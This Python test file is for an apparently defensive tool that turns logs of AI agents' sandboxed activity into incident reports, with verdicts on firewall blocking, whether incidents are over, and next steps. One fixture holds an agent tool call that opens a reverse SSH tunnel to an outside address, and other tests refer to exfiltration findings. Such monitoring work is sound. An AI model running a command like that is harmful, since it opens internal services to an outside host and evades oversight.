"""An analyst has a verdict within a minute: what stands before the timeline is short, and is all that it takes."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING, Any

import orjson
import pytest
from hypothesis import given
from hypothesis import strategies as st
from selenium.webdriver.common.by import By
from tests.report.cases import at, call_finding, finding, incident, write_output

from agenttrail.cli import main
from agenttrail.detect.rules import load_all
from agenttrail.report.advice import Step, steps
from agenttrail.report.conditions import Condition, Part, Value
from agenttrail.report.evidence import Budget, lines
from agenttrail.report.fired import because
from agenttrail.report.first_screen import Reason, lead_of, over, unfolded
from agenttrail.report.meanings import done, why
from agenttrail.report.names import OPENING, incident_file
from agenttrail.report.standing import decided_on, let_through

if TYPE_CHECKING:
    from pathlib import Path

    from selenium.webdriver import Chrome

Document = dict[str, Any]
MOST_WORDS = 190
"""A minute at four words a second, less three seconds for the screen and two clicks to come here, is 212."""
WORDS = """
  const stop = document.getElementById("timeline-title");
  const walker = document.createTreeWalker(document.getElementById("main"), NodeFilter.SHOW_TEXT);
  const words = [];
  for (let node; (node = walker.nextNode());) {
    if (node.compareDocumentPosition(stop) & Node.DOCUMENT_POSITION_CONTAINED_BY || stop.contains(node)) break;
    if (!(node.compareDocumentPosition(stop) & Node.DOCUMENT_POSITION_FOLLOWING)) break;
    if (node.parentElement.checkVisibility()) words.push(node.data);
  }
  return words.join(" ");
"""


@pytest.fixture(scope="module")
def day(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Give what was found on a simulated day of five incidents or more."""
    folder = tmp_path_factory.mktemp("day")
    assert main(["demo", "--agents", "6", "--hours", "3", "--output", str(folder)]) == 0
    return folder / "out"


def _incidents(out: Path) -> list[Document]:
    return [orjson.loads(line) for line in (out / "incidents.ndjson").read_bytes().splitlines()]


def test_the_first_part_is_read_within_a_minute(browser: Chrome, day: Path) -> None:
    """And has who, towards whom, let through or not, over or not, what proves it, why it is suspicious, what to do."""
    incidents = _incidents(day)
    assert len(incidents) >= 5
    counted = {}
    for one in incidents:
        browser.get((day / "report" / incident_file(one["incident.id"])).as_uri())
        text = browser.execute_script(WORDS)
        counted[one["incident.title"]] = len([word for word in text.split() if re.search(r"\w", word)])
        lead = browser.find_element(By.CSS_SELECTOR, ".lead").text
        for name in ("gen_ai.agent.id", "trajectory.id", "sandbox.id"):
            assert one.get(name, "") in lead, lead
        assert not one.get("destination.ip") or one["destination.ip"][0] in lead, lead
        verdicts = re.findall(r"let through|blocked|disputed|no log says", lead.partition(" (it may")[0])
        assert not one.get("destination.ip") or verdicts, lead
        assert re.match(r"Over: |Still running|Whether it is over", browser.find_element(By.CSS_SELECTOR, ".over").text)
        for what in (".fired .why", ".card.sure p", ".card.do li"):
            assert browser.find_element(By.CSS_SELECTOR, what).text
        for fact in ("job.id", "sandbox.id"):
            assert text.count(one.get(fact, "")) == 1 or not one.get(fact), (fact, text)
    assert max(counted.values()) <= MOST_WORDS, counted


# -- what was done, and why that is suspicious


def test_every_rule_that_opens_incidents_has_a_meaning_in_short() -> None:
    rules = load_all(["builtin"])
    opening = [one.name for one in rules.rules if one.level in OPENING and not one.building_block]
    opening += [one.name for one in rules.correlations if one.level in OPENING and not one.building_block]
    assert len(opening) > 10
    for name in opening:
        assert done(name), name
        assert 4 <= len(why(name, None).split()) <= 18, name


def test_of_another_rule_its_author_says_what_it_means() -> None:
    condition = Condition("Context.  A socket was opened at night. Nobody works then.", "", ())
    assert why("mine/at-night", condition) == "A socket was opened at night."
    assert why("mine/at-night", Condition("It is night", "", ())) == "It is night"
    assert (why("mine/at-night", None), done("mine/at-night")) == ("", "")


def _did(one: Document, findings: list[Document]) -> str:
    return lead_of(one, findings, decided_on(findings)).did


def test_the_lead_says_what_was_done() -> None:
    assert _did(incident(0), [finding(0)]) == "opened SSH to"
    assert _did(incident(0), [finding(0, **{"event.outcome": ["failure"]})]) == "tried to reach"
    assert _did(incident(0), [finding(0, **{"rule.name": "mine/x"})]) == "talked to"
    assert _did(incident(0, **{"destination.ip": []}), [finding(0)]) == "set this off"


def test_what_a_call_opens_is_on_a_peer_only_where_its_text_names_it() -> None:
    assert _did(incident(0), [call_finding(0)]) == "opened a reverse SSH tunnel to"
    elsewhere = incident(0, **{"destination.ip": ["192.0.2.9"]})
    assert _did(elsewhere, [call_finding(0)]) == "opened a reverse SSH tunnel, and talked to"
    assert _did(incident(0, **{"destination.ip": []}), [call_finding(0)]) == "opened a reverse SSH tunnel"


def test_a_mean_of_nothing_on_tensor_cores_is_said_to_be_idle_and_that_all_hit_is_not_said() -> None:
    condition = Condition("", "", (Part("r", (), ()), Part("s", (), ())))
    known = [Value("temporal", ("2",), "x"), Value("gpu.utilization", ("95",), "x")]
    for value, said in (("0", "idle"), ("0.24", "24 %")):
        told = because(condition, [*known, Value("gpu.tensor_active", (value,), "x")], {})
        assert [term.value for term in told] == [said, "95 %"]
    assert [term.value for term in because(condition, [Value("temporal", ("1",), "x")], {})] == ["1 of 2"]


# -- one verdict


def _firewall(**changed: Any) -> Document:
    return finding(0, **{"event.outcome": ["failure"], "event.dataset": ["alibaba_cloud_firewall"], **changed})


def _flows(count: int) -> Document:
    return finding(0, **{"finding.severity": "low", "network.conversations": count})


@pytest.mark.parametrize(
    ("findings", "said"),
    [
        ([finding(0)], "let through"),
        ([call_finding(0)], "no log says whether it was let through"),
        ([finding(0), _firewall()], "partly blocked"),
        ([_firewall()], "blocked by the firewall"),
        (
            [_firewall(**{"network.conversations": 17}), _flows(17)],
            "disputed: the firewall blocked all 17, the flow log accepted them (it may stand before the firewall)",
        ),
        (
            [_firewall(**{"network.conversations": 17}), _flows(3)],
            "disputed: the firewall blocked all 17, the flow log accepted 3 (it may stand before the firewall)",
        ),
        (
            [_firewall(**{"network.conversations": 0}), _flows(0)],
            "disputed: the firewall blocked them, the flow log accepted some (it may stand before the firewall)",
        ),
        (
            [_firewall(**{"event.dataset": ["mine"]}), _flows(1)],
            "disputed: mine blocked it, the flow log accepted it",
        ),
    ],
)
def test_there_is_one_verdict(findings: list[Document], said: str) -> None:
    assert let_through(findings, decided_on(findings)) == said


def test_evidence_begins_with_what_was_decided() -> None:
    (event,) = finding(0)["finding.evidence"]
    silent = {name: value for name, value in event.items() if name not in ("event.outcome", "event.action")}
    told = lines({"finding.evidence": [silent] * 8 + [event]}, 3, Budget(9_999))
    assert [line.verdict for line in told] == ["", "", "allowed (accept)"]


# -- over or not


@pytest.mark.parametrize(
    ("changed", "said"),
    [
        ({}, "Over: last record 00:30:00; rollout ended 00:59:00; that the sandbox is gone was not seen."),
        ({"entity.type": "sandbox"}, "Over: last record 00:30:00; sandbox ended 00:59:00."),
        ({"attribution.lease_end": at(20)}, "Whether it is over is not known: rollout ended 00:20:00, but last record"),
        (
            {"attribution.lease_end": None},
            "Still running as far as leases tell: the logs end 03:00:00, last record 00:30:00.",
        ),
        ({"attribution.lease_end": "never"}, "Over: last record 00:30:00; rollout ended never; that the"),
        (
            {"entity.type": "host"},
            "Whether it is over is not known: a host may have had several sandboxes; last record",
        ),
    ],
)
def test_whether_it_is_over_is_one_line(changed: Document, said: str) -> None:
    assert " ".join(over(incident(0, **changed), "2026-03-02 00:59:00", "2026-03-02 03:00:00")).startswith(said)


def test_where_no_end_of_the_logs_is_known_the_timeline_tells() -> None:
    running = incident(0, **{"attribution.lease_end": None})
    assert over(running, "2026-03-03 00:59:00", "")[1].endswith(
        "its timeline ends 2026-03-03 00:59:00, last record 00:30:00."
    )
    assert over(running, "", "")[1].endswith("last record 00:30:00.")


# -- what to do


def test_what_was_carried_out_is_found_out_first() -> None:
    """Whatever else the same incident is about, and however much worse that is."""
    kept = {"threat.tactic.name": ["exfiltration"], "recommendation": ["Ask its owner."], "finding.severity": "medium"}
    sent = finding(0, **kept)
    assert steps(incident(0), [finding(0), sent])[1].text == "Ask its owner."
    assert "Cut it." not in [step.text for step in steps(incident(0), [finding(0)])]


def test_of_a_long_call_the_part_that_tells_is_shown(tmp_path: Path) -> None:
    said = f"cd {'x' * 200} && ssh -fN -R 16708:localhost:6006 root@198.51.100.7 && ls {'y' * 200}"
    told = call_finding(0)
    told["finding.evidence"][0]["gen_ai.tool.call.arguments"] = orjson.dumps({"command": said}).decode()
    out = write_output(tmp_path / "out", [incident(0)], [told])
    assert main(["incidents", "report", "--from", str(out)]) == 0
    page = (out / "report" / incident_file(f"{0:032x}")).read_text(encoding="utf-8")
    said = "cd xxxxxxxxxxxx…xxxxxx &amp;&amp; ssh -fN -R 16708:localhost:6006 root@198.51.100.7 &amp;&amp; ls"
    assert f"Tool call shell 00:09:30: <code>{said}" in page


@given(
    st.lists(st.integers(0, 80), max_size=4), st.lists(st.integers(1, 60), max_size=3), st.integers(0, 80),
    st.lists(st.integers(0, 80), max_size=2), st.sampled_from(["low", "medium", "critical"]),
)  # fmt: skip
def test_what_stands_unfolded_has_its_room_and_the_first_of_all_is_never_folded(
    texts: list[int], benign: list[int], always: int, titles: list[int], second: str
) -> None:
    todo = [Step(" ".join(f"s{number}" for _ in range(length))) for number, length in enumerate(texts)]
    told = [Reason(f"finding-{number}", "t " * length, "", []) for number, length in enumerate(titles)]
    fired = [
        {
            "id": "finding-0", "severity": "medium",
            "benign": [f"{number} " + "b " * length for number, length in enumerate(benign)],
        },
        {"id": "finding-1", "severity": second, "benign": []},
    ]  # fmt: skip
    shown = unfolded(["a " * always], told, fired, todo)
    harmless = f"May be harmless: {shown.harmless}" if shown.harmless else ""
    also = [f"Also {one.title}" for one in shown.reasons[1:]]
    optional = [*(step.text for step in shown.steps[1:]), harmless, *also]
    least = always + sum(texts[:1]) + sum(titles[:1])
    assert least + sum(len(text.split()) for text in optional) <= max(166, least)
    if second == "critical" and len(titles) > 1 and least + 1 + titles[1] <= 166:  # "Also" is a word, too
        assert list(shown.reasons) == told  # whatever else there is no room for
    assert shown.steps[:1] == todo[:1]
    assert list(shown.reasons[:1]) == told[:1]
    assert [*([shown.harmless] if shown.harmless else []), *shown.folded] == list(fired[0]["benign"])


@pytest.mark.parametrize(("second", "shown"), [("medium", 1), ("critical", 2)])
def test_what_makes_an_incident_as_severe_as_it_says_comes_before_further_steps(second: str, shown: int) -> None:
    told = [Reason("finding-0", "first", "", []), Reason("finding-1", "second", "", [])]
    fired = [{"id": f"finding-{place}", "severity": one, "benign": []} for place, one in enumerate(["medium", second])]
    todo = [Step("a"), Step("b " * 10)]
    kept = unfolded(["w " * (166 - 12)], told, fired, todo)
    assert len(kept.reasons) == shown
    assert len(kept.steps) == 3 - shown
